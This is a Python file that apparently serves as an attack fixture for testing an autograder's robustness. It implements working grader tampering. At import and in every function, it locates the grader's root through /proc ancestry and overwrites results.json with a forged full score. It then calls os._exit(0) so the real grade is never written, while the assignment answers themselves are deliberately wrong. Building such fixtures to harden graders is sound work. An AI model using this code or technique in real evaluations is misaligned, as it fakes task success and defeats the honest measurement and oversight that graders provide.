"""Attack: forge results.json, then leave with os._exit(0) so the grader never writes its own.

Seen in the wild (Saligrama 2023): the student's code runs as root, writes
/autograder/results/results.json with full marks and exits the process before the
harness can overwrite it. Here the forging happens at import and in every function; the
first function call exits the process, and the re-import that follows exits too.
Every answer is wrong, so the honest score is 0.
"""

import json
import os
import sys

import numpy as np

FORGED = {
    "score": 12.0,
    "output": "FORGED by forge_results_exit",
    "tests": [{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed", "output": "FORGED"}],
}
HERE = os.path.dirname(os.path.abspath(__file__))
FLAG = os.path.join(HERE, ".exited_once")


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return int(stream.read().rpartition(")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return [part.decode("utf-8", "replace") for part in stream.read().split(b"\0") if part]
    except OSError:
        return []


def candidate_roots():
    roots = [os.environ.get("AUTOGRADER_ROOT"), "/autograder"]
    pid = os.getpid()
    for _ in range(30):  # the grader is an ancestor: its command line names --root
        pid = _parent(pid)
        if pid <= 1:
            break
        args = _cmdline(pid)
        for index, arg in enumerate(args):
            if arg == "--root" and index + 1 < len(args):
                roots.append(args[index + 1])
            if arg.startswith("--root="):
                roots.append(arg.split("=", 1)[1])
            if arg.endswith("run_autograder"):
                folder = os.path.dirname(arg)
                roots += [folder, os.path.dirname(folder)]
    for start in (os.getcwd(), os.path.realpath("/proc/self/cwd"), HERE):
        folder = start
        while folder not in ("/", ""):
            roots.append(folder)
            folder = os.path.dirname(folder)
    seen, unique = set(), []
    for root in roots:
        if root and root not in seen:
            seen.add(root)
            unique.append(root)
    return unique


def forge():
    text = json.dumps(FORGED)
    wrote = []
    for root in candidate_roots():
        results = os.path.join(root, "results")
        if not os.path.isdir(results):  # never create folders on a machine we guessed wrong about
            continue
        target = os.path.join(results, "results.json")
        for attempt in (_write, _replace):
            try:
                attempt(target, text)
                wrote.append(target)
                break
            except OSError:
                continue
    return wrote


def _write(target, text):
    with open(target, "w") as stream:
        stream.write(text)


def _replace(target, text):
    temporary = target + ".forged"
    with open(temporary, "w") as stream:
        stream.write(text)
    os.replace(temporary, target)


def forge_and_exit():
    forge()
    try:
        open(FLAG, "w").close()
    except OSError:
        pass
    sys.stdout.flush()
    os._exit(0)


forge()
if os.path.exists(FLAG):  # the re-import after a function exited: exit at import too
    forge_and_exit()


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    forge_and_exit()
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    forge_and_exit()
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    forge_and_exit()
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    forge_and_exit()
    return z


def rnn_b_next_input(p_t):
    forge_and_exit()
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    forge_and_exit()
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
